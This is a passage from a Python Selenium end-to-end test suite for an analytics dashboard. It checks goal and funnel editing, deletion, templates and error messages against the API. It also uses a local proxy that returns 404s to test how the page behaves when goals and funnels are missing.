            submit_and_wait(driver, "goal-form", "goal-message")
            now = goals_api()
            edited = [g for g in now if g["name"] == f"Product pages (edited) {RUN}"]
            check("owner: saving an edit creates the edited goal and deletes the old one (the API has no PUT)",
                  old["id"] not in {g["id"] for g in now} and len(edited) == 1
                  and edited[0]["match"] == {"type": "pageview", "path": "/products/*", "properties": {"plan": "pro"}}
                  and goal_on_screen(driver, old["id"]) is None and goal_on_screen(driver, edited[0]["id"]) is not None, str(now))
            if edited:
                driver.find_element(By.CSS_SELECTOR, f"[data-testid=goal-row][data-goal='{edited[0]['id']}'] [data-testid=goal-delete]").click()
                driver.switch_to.alert.accept()
                gone = wait_for(lambda: goal_on_screen(driver, edited[0]["id"]) is None, 15)
                check("owner: Delete (confirmed) deletes the goal in the API and on the page",
                      gone and edited[0]["id"] not in {g["id"] for g in goals_api()})

        # A funnel of three steps (one added with "Add step"), any order, all within one session.
        before = {f["id"] for f in funnels_api()}
        set_input(driver, "funnel-name", f"Browse to buy {RUN}")
        driver.find_element(By.CSS_SELECTOR, "[data-testid=funnel-add-step]").click()
        rows = driver.find_elements(By.CSS_SELECTOR, "[data-testid=funnel-step-row]")
        for row, (kind, value) in zip(rows, (("path", "/products/*"), ("action", "add_to_cart"), ("name", "purchase"))):
            Select(row.find_element(By.CSS_SELECTOR, "[data-testid=step-kind]")).select_by_value(kind)
            row.find_element(By.CSS_SELECTOR, "[data-testid=step-value]").send_keys(value)
        select(driver, "funnel-order", "any")
        set_input(driver, "funnel-window", "session")
        text, _ = submit_and_wait(driver, "funnel-form", "funnel-message")
        created = [f for f in funnels_api() if f["id"] not in before]
        want_steps = [{"type": "pageview", "path": "/products/*"}, {"action": "add_to_cart"}, {"name": "purchase"}]
        check("owner: the funnel form creates the funnel it describes",
              len(created) == 1 and [{k: v for k, v in s.items() if k != "label"} for s in created[0]["steps"]] == want_steps
              and created[0]["order"] == "any" and created[0]["window"] == "session", f"{created} {text!r}")
        if created:
            report = api_get(tributary, f"funnels/{created[0]['id']}/report?{span}")
            shown = screen(driver)
            check("owner: the new funnel is selected and its steps equal GET /funnels/{id}/report",
                  shown["funnel"] == created[0]["id"] and [s["name"] for s in shown["steps"]] == [s["name"] for s in report["steps"]]
                  and all(same_count(a["persons"], b["persons"]) for a, b in zip(shown["steps"], report["steps"]))
                  and report["steps"][0]["persons"] > 0, f"{shown['funnel']} {shown['steps']} vs {report['steps']}")

        # The e-commerce template, then deleted through the page.
        before = {f["id"] for f in funnels_api()}
        driver.find_element(By.CSS_SELECTOR, "[data-testid=funnel-template]").click()
        added = wait_for(lambda: [f for f in funnels_api() if f["id"] not in before], 10)
        wait_for(lambda: added and screen(driver)["funnel"] == added[0]["id"] and driver.execute_script("return document.body.dataset.state") == "ready", 15)
        shown = screen(driver)
        check("owner: the e-commerce button creates the standard funnel, selected with the API's report",
              added and [s["action"] for s in added[0]["steps"]] == ["view_item", "add_to_cart", "begin_checkout", "purchase"]
              and shown["funnel"] == added[0]["id"]
              and [s["persons"]["value"] for s in shown["steps"]] == [str(s["persons"]) for s in api_get(tributary, f"funnels/{added[0]['id']}/report?{span}")["steps"]],
              f"{added} {shown['funnel']}")
        check("owner: every funnel of the site is selectable", shown["funnelOptions"] == [f["id"] for f in funnels_api()],
              f"{shown['funnelOptions']} vs {[f['id'] for f in funnels_api()]}")
        if added:
            driver.find_element(By.CSS_SELECTOR, "[data-testid=funnel-delete]").click()
            driver.switch_to.alert.accept()
            gone = wait_for(lambda: added[0]["id"] not in screen(driver)["funnelOptions"], 15)
            check("owner: deleting the selected funnel removes it from the API and the picker",
                  gone and added[0]["id"] not in {f["id"] for f in funnels_api()})

        # A bad window: the API's 400 message is shown and nothing is created.
        body = {"name": "Bad window", "steps": [{"action": "view_item"}, {"action": "purchase"}], "order": "sequential", "window": "91d"}
        count = len(funnels_api())
        status, answer = tributary.api("POST", f"/v1/sites/{SITE}/funnels", body, token=KEYS["owner_key"])
        message = (answer or {}).get("error", {}).get("message")
        set_input(driver, "funnel-name", "Bad window")
        rows = driver.find_elements(By.CSS_SELECTOR, "[data-testid=funnel-step-row]")
        for row, value in zip(rows, ("view_item", "purchase")):
            row.find_element(By.CSS_SELECTOR, "[data-testid=step-value]").send_keys(value)
        set_input(driver, "funnel-window", "91d")
        text, _ = submit_and_wait(driver, "funnel-form", "funnel-message")
        check("owner: a 91d window shows the API's 400 message and creates nothing",
              status == 400 and text == f"Not saved: {message}" and len(funnels_api()) == count, f"{status} {message!r} vs {text!r}")
    finally:
        driver.quit()


class WithoutDefinitions(http.server.BaseHTTPRequestHandler):
    """Forwards GETs to the QueryAPI, except goals (404, empty body, like an unknown route)
    and funnels (404 with the API's JSON error body)."""
    protocol_version = "HTTP/1.1"
    upstream = ""

    def log_message(self, *args):
        pass

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        if re.search(r"/goals(/|$)", path):
            status, content_type, body = 404, "text/plain", b""
        elif re.search(r"/funnels(/|$)", path):
            status, content_type = 404, "application/json"
            body = b'{"error":{"code":"not_found","message":"funnels are not served here yet"}}'
        else:
            headers = {k: self.headers[k] for k in ("Authorization",) if self.headers.get(k)}
            status, answer_headers, body = call("GET", WithoutDefinitions.upstream + self.path, None, headers)
            content_type = {k.lower(): v for k, v in answer_headers.items()}.get("content-type", "application/octet-stream")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_without_goals_and_funnels(tributary, expected, workdir):
    first, last = expected["from"], expected["to"]
    WithoutDefinitions.upstream = tributary.query
    port = free_port()
    proxy = http.server.ThreadingHTTPServer(("127.0.0.1", port), WithoutDefinitions)
    proxy.daemon_threads = True
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    driver = browser(workdir, "no-definitions")
    try:
        driver.get(f"http://127.0.0.1:{port}/")
        driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(ADMIN_TOKEN + Keys.ENTER)
        picker = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]")
        wait_for(lambda: SITE in [o.get_attribute("value") for o in Select(picker).options], 15)
        Select(picker).select_by_value(SITE)
        set_range(driver, first, last)
        ok = loaded(driver, SITE, first, last)
        shown = screen(driver)
        overview = answers_for(tributary, SITE, first, last)[0]
        check("goals answering 404 show 'No goals.' with the status, funnels answering 404 show the error message",
              ok and shown["goalsEmpty"] == "No goals. (HTTP 404 Not Found)" and not shown["goals"]
              and shown["funnelsEmpty"] == "No funnels. (funnels are not served here yet)" and not shown["steps"],
              f"loaded {ok}, goals {shown['goalsEmpty']!r} {shown['goals']}, funnels {shown['funnelsEmpty']!r} {shown['steps']}, "
              f"status {shown['status']!r}")
        check("without goals and funnels the other panels still show the API's figures",
              same_count(shown["overview"]["overview-orders"], overview["orders"])
              and len(shown["sources"]) > 0 and len(shown["bars"]) > 0 and "dash-" in shown["status"], str(shown["overview"]))
        errors = [e["message"] for e in driver.get_log("browser")
                  if e["level"] == "SEVERE" and "Failed to load resource" not in e["message"]]
        check("no script error in the console without goals and funnels", not errors, str(errors[:5]))
    finally:
        driver.quit()
        proxy.shutdown()
        proxy.server_close()


def main():
    workdir = tempfile.mkdtemp(prefix="tributary-dashboard-")
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    tributary = None
    try:
        tributary = Tributary(workdir, ADMIN_TOKEN)
        test_page_is_self_contained(tributary)
        expected = simulate(tributary, workdir)
        define_goals_and_funnels(tributary)
        rotate_keys(tributary)
        for test in (test_admin_view, test_reports, test_definitions, test_presets_in_site_time_zone,
                     test_read_key_and_bad_token, test_without_goals_and_funnels):
            try:
                test(tributary, expected, workdir)
            except Exception:
                check(f"{test.__name__} runs to its end", False, traceback.format_exc())
    except Exception:
        check("setup", False, traceback.format_exc())
    finally:
        if tributary:
            if report.failed:
                log("tributary log tail:\n" + tributary.tail(40))
            tributary.stop()
        subprocess.run(["rm", "-rf", workdir])
    return report.finish()


if __name__ == "__main__":
    sys.exit(main())
